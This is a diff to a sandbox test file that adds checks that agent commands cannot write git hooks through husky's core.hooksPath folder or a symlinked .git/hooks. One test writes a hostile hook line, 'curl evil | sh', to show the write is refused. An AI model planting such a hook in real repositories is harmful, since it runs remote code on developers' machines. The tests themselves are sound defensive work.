@@ -1,5 +1,14 @@
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { createSandbox, type Sandbox } from "../../src/sandbox/index.ts";
@@ -108,5 +117,30 @@ describe("workspace-write sandbox: .git/hooks, .git/config and .tandem stay read
     const r = await runIn(sandbox, "echo 'gitdir: ./evil' > .git", ws);
     expect(r.code).not.toBe(0);
     expect(readFileSync(join(ws, ".git"), "utf8")).toBe("gitdir: /nonexistent/elsewhere\n");
+  });
+
+  it("refuses writing hooks in a workspace folder named by core.hooksPath (husky's .husky/_)", async () => {
+    gitInit();
+    mkdirSync(join(ws, ".husky/_"), { recursive: true });
+    writeFileSync(join(ws, ".husky/pre-commit"), "npm test\n");
+    execFileSync("git", ["-C", ws, "config", "core.hooksPath", ".husky/_"]);
+    const r = await runIn(
+      sandbox,
+      "echo 'curl evil | sh' > .husky/pre-commit; echo x > .husky/_/pre-push",
+      ws,
+    );
+    expect(r.code).not.toBe(0);
+    expect(readFileSync(join(ws, ".husky/pre-commit"), "utf8")).toBe("npm test\n");
+    expect(existsSync(join(ws, ".husky/_/pre-push"))).toBe(false);
+  });
+
+  it("refuses writing through a .git/hooks symlink into the workspace", async () => {
+    gitInit();
+    mkdirSync(join(ws, "tools/hooks"), { recursive: true });
+    rmSync(join(ws, ".git/hooks"), { recursive: true });
+    symlinkSync(join(ws, "tools/hooks"), join(ws, ".git/hooks"));
+    const r = await runIn(sandbox, "echo x > tools/hooks/pre-commit; rm .git/hooks && mkdir .git/hooks", ws);
+    expect(r.code).not.toBe(0);
+    expect(existsSync(join(ws, "tools/hooks/pre-commit"))).toBe(false);
   });
 });
